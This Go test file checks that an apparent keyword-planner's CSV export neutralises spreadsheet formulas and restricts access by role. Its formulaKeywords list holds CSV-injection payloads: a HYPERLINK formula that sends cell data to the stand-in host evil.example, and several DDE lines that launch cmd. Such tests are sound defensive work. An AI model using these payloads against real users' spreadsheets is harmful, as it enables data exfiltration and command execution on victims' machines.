package planner_test

import (
	"encoding/csv"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/igny8/igny8/collections"
	"github.com/igny8/igny8/planner"
	"github.com/igny8/igny8/testapp"
	"github.com/igny8/igny8/tools/keywordfile"
	"github.com/pocketbase/pocketbase/core"
	"github.com/pocketbase/pocketbase/tests"
)

// formulaKeywords are keywords a hostile (or unlucky) user can store that a
// spreadsheet would run as formulas when the CSV is opened.
var formulaKeywords = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`＝1+1`,
}

func seedFormulaKeywords(t testing.TB, app core.App) {
	col, err := app.FindCollectionByNameOrId(collections.Keywords)
	if err != nil {
		t.Fatal(err)
	}
	for i, k := range formulaKeywords {
		r := core.NewRecord(col)
		r.Load(map[string]any{"tenant": testapp.TenantId(testapp.A), "site": testapp.SiteId(testapp.A), "keyword": k, "volume": 10 + i, "status": "new"})
		if err := app.Save(r); err != nil {
			t.Fatalf("save %q: %v", k, err)
		}
	}
	c, err := app.FindRecordById(collections.Clusters, testapp.RecordId(collections.Clusters, testapp.A))
	if err != nil {
		t.Fatal(err)
	}
	c.Set("name", "=1+2")
	if err := app.Save(c); err != nil {
		t.Fatal(err)
	}
}

func readExport(t testing.TB, body string) map[string][]string {
	t.Helper()
	if !strings.HasPrefix(body, "\ufeff") {
		t.Fatalf("export does not start with a UTF-8 BOM: %q", body[:min(len(body), 20)])
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v", err)
	}
	if strings.Join(rows[0], ",") != "Keyword,Volume,Keyword Difficulty,CPC,Intent,Country,Language,Status,Cluster" {
		t.Fatalf("header %v", rows[0])
	}
	out := map[string][]string{}
	for _, r := range rows[1:] {
		out[r[0]] = r
	}
	return out
}

// Cells a spreadsheet would run as formulas leave igny8's CSV with a leading
// apostrophe; the stored keyword stays the user's text, and the exported file
// imports back onto the same keywords.
func TestExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	var exported string
	s := &tests.ApiScenario{
		Name: "viewer exports A's keywords", Method: http.MethodGet, URL: "/api/igny8/planner/export?site=" + testapp.SiteId(testapp.A),
		TestAppFactory: testapp.Factory, ExpectedStatus: 200, ExpectedContent: []string{"keyword a"}, NotExpectedContent: []string{"keyword b"},
		AfterTestFunc: func(t testing.TB, app *tests.TestApp, res *http.Response) {
			b, _ := io.ReadAll(res.Body)
			exported = string(b)
			if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
				t.Fatalf("content type %q", ct)
			}
			rows := readExport(t, exported)
			for _, k := range formulaKeywords {
				if rows["'"+k] == nil {
					t.Errorf("%q not exported as '%s; rows: %v", k, k, rows)
				}
				if rows[k] != nil {
					t.Errorf("%q exported as a live formula", k)
				}
			}
			if r := rows["keyword a"]; r == nil || r[1] != "10" || r[8] != "'=1+2" {
				t.Errorf("plain keyword row %v (cluster name must be neutralised too)", r)
			}
			stored := siteKeywords(t, app, testapp.SiteId(testapp.A))
			for _, k := range formulaKeywords {
				if r := stored[keywordfile.Normalize(k)]; r == nil || r.GetString("keyword") != k {
					t.Errorf("stored keyword for %q changed: %v", k, r)
				}
			}
			// the export imports back onto the same keywords
			site, _ := app.FindRecordById(collections.Sites, testapp.SiteId(testapp.A))
			res2, err := planner.ImportFile(app, site, strings.NewReader(exported), keywordfile.ParseOptions{})
			if err != nil || res2.Imported != 0 || res2.Updated != len(formulaKeywords)+1 {
				t.Fatalf("re-import of the export: %+v, %v", res2, err)
			}
		},
	}
	s.BeforeTestFunc = func(t testing.TB, app *tests.TestApp, e *core.ServeEvent) {
		seedFormulaKeywords(t, app)
		s.Headers = map[string]string{"Authorization": testapp.Authorization(t, app, testapp.A, "viewer")}
	}
	s.Test(t)
}

func TestExportRouteAccess(t *testing.T) {
	t.Parallel()
	url := "/api/igny8/planner/export?site=" + testapp.SiteId(testapp.A)
	cases := []struct {
		name, who, role string
		status          int
	}{
		{"viewer of A", testapp.A, "viewer", 200},
		{"owner of B", testapp.B, "owner", 404},
		{"outsider", testapp.Outsider, "", 404},
		{"anonymous", testapp.Anonymous, "", 401},
		{"superuser", testapp.Superuser, "", 200},
	}
	for _, c := range cases {
		c := c
		s := &tests.ApiScenario{Name: c.name, Method: http.MethodGet, URL: url, ExpectedStatus: c.status, TestAppFactory: testapp.Factory,
			ExpectedContent: []string{"keyword a"}}
		if c.status != 200 {
			s.ExpectedContent, s.NotExpectedContent = []string{`"data"`}, []string{"keyword a"}
		}
		s.BeforeTestFunc = func(t testing.TB, app *tests.TestApp, e *core.ServeEvent) {
			s.Headers = map[string]string{"Authorization": testapp.Authorization(t, app, c.who, c.role)}
		}
		s.Test(t)
	}
	missing := &tests.ApiScenario{Name: "missing site", Method: http.MethodGet, URL: "/api/igny8/planner/export", ExpectedStatus: 400,
		TestAppFactory: testapp.Factory, ExpectedContent: []string{`"site"`}}
	missing.BeforeTestFunc = func(t testing.TB, app *tests.TestApp, e *core.ServeEvent) {
		missing.Headers = map[string]string{"Authorization": testapp.Authorization(t, app, testapp.A, "viewer")}
	}
	missing.Test(t)
}
